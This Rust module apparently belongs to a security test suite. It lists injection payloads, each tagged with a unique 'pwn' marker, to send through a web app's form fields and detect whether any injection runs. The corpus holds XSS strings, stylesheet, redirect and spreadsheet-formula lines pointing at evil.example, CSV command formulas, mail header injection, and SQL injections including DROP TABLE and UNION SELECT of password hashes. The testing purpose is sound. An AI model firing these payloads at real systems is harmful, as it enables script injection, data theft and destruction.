//! The attacks: cross-site scripting payloads, template and formula injections, Unicode
//! tricks and SQL metacharacters. Every XSS payload carries a marker (`pwn` and digits,
//! different for each payload and each field it is sent through), put where a successful
//! injection would run it or name it: an injected element or attribute then carries the
//! marker, and the inspection finds it.

use super::inspect::Expect;

/// Where a payload's marker goes.
const MARK: &str = "{M}";

/// One payload of the corpus.
#[derive(Debug, Clone, Copy)]
pub struct Payload {
    pub index: usize,
    pub name: &'static str,
    template: &'static str,
}

impl Payload {
    /// The payload as sent through field number `field`: its own marker in place.
    pub fn text(&self, field: usize) -> String {
        self.template.replace(MARK, &marker(self.index, field))
    }

    /// Whether the payload holds a character that no text field accepts (NUL), so that
    /// every form refuses it and shows it again beside the problem.
    pub fn refused(&self) -> bool {
        self.template.contains('\0')
    }
}

/// The marker of payload `payload` in field `field`.
pub fn marker(payload: usize, field: usize) -> String {
    format!("pwn{payload:02}x{field:03}")
}

/// Whether `text` holds any marker at all.
pub fn has_marker(text: &str) -> bool {
    text.to_ascii_lowercase()
        .match_indices("pwn")
        .any(|(at, _)| text[at + 3..].starts_with(|c: char| c.is_ascii_digit()))
}

const TEMPLATES: &[(&str, &str)] = &[
    ("script element", "<script>alert('{M}')</script>"),
    ("img onerror", "<img src=x onerror=alert('{M}')>"),
    (
        "double-quote attribute breakout",
        "\" autofocus onfocus=\"alert('{M}')\" x=\"",
    ),
    (
        "single-quote attribute breakout",
        "' autofocus onfocus='alert(\"{M}\")' x='",
    ),
    (
        "backtick attribute breakout",
        "` autofocus onfocus=`alert({M})` x=`",
    ),
    ("tag breakout with SVG", "\"><svg onload=alert('{M}')><\""),
    ("javascript: URL", "javascript:alert('{M}')"),
    (
        "obfuscated javascript: URL",
        "JaVa\tScRiPt:alert('{M}')//&#106;avascript:{M}",
    ),
    (
        "anchor with javascript: href",
        "<a href=\"javascript:alert('{M}')\">click {M}</a>",
    ),
    (
        "textarea breakout",
        "</textarea><script>alert('{M}')</script><textarea>",
    ),
    (
        "title breakout",
        "</title><script>alert('{M}')</script><title>",
    ),
    (
        "SVG animate",
        "<svg><animate onbegin=alert('{M}') attributeName=x dur=1s></svg>",
    ),
    (
        "MathML mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('{M}')>",
    ),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>alert('{M}')</script>\"></iframe>",
    ),
    (
        "details ontoggle",
        "<details open ontoggle=alert('{M}')><summary>{M}</summary></details>",
    ),
    ("base element", "<base href=\"//evil.example/{M}/\">"),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/{M}\">",
    ),
    (
        "style element",
        "<style>@import '//evil.example/{M}.css';</style>",
    ),
    (
        "stylesheet link",
        "<link rel=stylesheet href=//evil.example/{M}>",
    ),
    (
        "template injection",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}{{ {M} }}{% endraw %} { $name } {M}",
    ),
    (
        "right-to-left override",
        "\u{202E}{M}<script>gnp.exe\u{202C} \u{2066}rtl\u{2069}",
    ),
    (
        "zero-width characters",
        "<scr\u{200B}ipt>{M}\u{200C}\u{200D}\u{FEFF}</scr\u{2060}ipt>",
    ),
    (
        "full-width brackets",
        "\u{FF1C}script\u{FF1E}alert('{M}')\u{FF1C}/script\u{FF1E}",
    ),
    (
        "HTML entities",
        "&lt;script&gt;alert('{M}')&lt;/script&gt; &#x3C;img src=x onerror={M}&#x3E; &amp;",
    ),
    ("comment and CDATA", "<!--{M}--><![CDATA[{M}]]>--!>"),
    ("null byte", "{M}\u{0}<script>alert('{M}')</script>"),
    (
        "mail header injection",
        "{M}\r\nBcc: victim@evil.example\r\nSubject: {M}",
    ),
    (
        "JSON breakout",
        "\"}],\"admin\":true,\"x\":[{\"y\":\"{M}\\u0000",
    ),
    ("CSV breakout", "{M}\",\"=1+1\"\n=cmd|' /C calc'!A0,"),
    (
        "formula with equals",
        "=HYPERLINK(\"http://evil.example/?{M}\",\"click\")",
    ),
    ("formula with plus", "+{M}+1+cmd|' /C calc'!A0"),
    ("formula with minus", "-{M}-1+1"),
    ("formula with at", "@SUM({M})"),
    ("SQL quote", "' OR 1=1--{M}"),
    (
        "SQL statement",
        "{M}'; DROP TABLE users;--\\ % _ \u{2019}\u{201C}",
    ),
];

/// The XSS corpus, each payload numbered.
pub fn payloads() -> Vec<Payload> {
    let corpus: Vec<Payload> = TEMPLATES
        .iter()
        .enumerate()
        .map(|(index, (name, template))| Payload {
            index,
            name,
            template,
        })
        .collect();
    for p in &corpus {
        assert!(p.text(0).chars().count() <= 100, "{} is too long", p.name);
    }
    corpus
}

/// SQL metacharacters for filters and search parameters.
pub const SQL_METACHARACTERS: &[&str] = &[
    "'",
    "\"",
    ";--",
    "%",
    "_",
    "\\",
    "' OR 1=1--",
    "\" OR \"\"=\"",
    "1; DROP TABLE connections;--",
    "%' OR '1'='1",
    "\\'",
    "\u{2019} OR 1=1--",
    "\u{201C}\u{201D}\u{2018}",
    "\u{0}",
    "a\u{0}b",
    "\u{7}\u{1b}[31m\u{8}",
    "' UNION SELECT id, password_hash FROM users--",
];

/// One payload as a test sends it through its fields, each field numbered by its place in
/// the test's list of fields.
pub struct Texts<'a> {
    pub payload: Payload,
    fields: &'a [&'static str],
}

impl<'a> Texts<'a> {
    pub fn new(payload: Payload, fields: &'a [&'static str]) -> Self {
        Self { payload, fields }
    }

    fn number(&self, field: &str) -> usize {
        self.fields
            .iter()
            .position(|f| *f == field)
            .unwrap_or_else(|| panic!("{field} is not in the test's list of fields"))
    }

    /// The payload as typed into `field`.
    pub fn typed(&self, field: &str) -> String {
        self.payload.text(self.number(field))
    }

    /// Plain text sent instead when the payload is refused.
    pub fn neutral(&self, field: &str) -> String {
        format!("neutral {field} {}", self.payload.index)
    }

    /// What `field` holds once accepted: the payload, or the neutral text.
    pub fn stored(&self, field: &str) -> String {
        if self.payload.refused() {
            self.neutral(field)
        } else {
            self.typed(field)
        }
    }

    /// The payload expected as typed in each of `fields` (none when it is refused, for it
    /// was never stored).
    pub fn shown(&self, fields: &[&'static str]) -> Vec<Expect> {
        if self.payload.refused() {
            return Vec::new();
        }
        fields
            .iter()
            .map(|f| Expect::new(self.payload.index, f, self.typed(f)))
            .collect()
    }

    /// The payload expected as typed in `fields`, even if refused (a refused form shows
    /// it again).
    pub fn retyped(&self, fields: &[&'static str]) -> Vec<Expect> {
        fields
            .iter()
            .map(|f| Expect::new(self.payload.index, f, self.typed(f)))
            .collect()
    }
}

/// The (payload, field) numbers of every marker in `text`.
pub fn markers_in(text: &str) -> Vec<(usize, usize)> {
    let bytes = text.as_bytes();
    text.match_indices("pwn")
        .filter_map(|(at, _)| {
            let digits = bytes.get(at + 3..at + 9)?;
            let payload = std::str::from_utf8(&digits[..2]).ok()?.parse().ok()?;
            let field = std::str::from_utf8(&digits[3..]).ok()?.parse().ok()?;
            (digits[2] == b'x').then_some((payload, field))
        })
        .collect()
}
